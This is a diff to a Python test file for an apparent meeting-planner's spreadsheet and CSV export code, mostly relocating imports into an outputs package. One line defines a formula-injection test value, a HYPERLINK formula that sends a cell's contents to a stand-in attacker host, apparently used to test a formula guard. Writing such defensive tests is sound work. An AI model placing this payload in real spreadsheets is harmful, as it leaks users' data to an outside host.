@@ -14,8 +14,8 @@ from sqlalchemy import select
 
 from db import models as m
 from mdo_planner.launcher import main
+from mdo_planner.outputs.tables import Sheet, csv_text, guard_formula, xlsx_bytes
 from mdo_planner.services.base import open_database
-from mdo_planner.tables import Sheet, csv_text, guard_formula, xlsx_bytes
 from tests import meeting_factory as mf
 
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
@@ -131,7 +131,7 @@ def test_agenda_and_sessions_as_tables(
 
 
 def test_quality_report_xlsx_has_frozen_headers() -> None:
-    from mdo_planner.quality_export import FIGURE_HEADER
+    from mdo_planner.outputs.quality_export import FIGURE_HEADER
 
     data = xlsx_bytes([Sheet("Figures", FIGURE_HEADER, [["all", 3, 66.7]], notes=("n",))])
     ws = openpyxl.load_workbook(io.BytesIO(data))["Figures"]
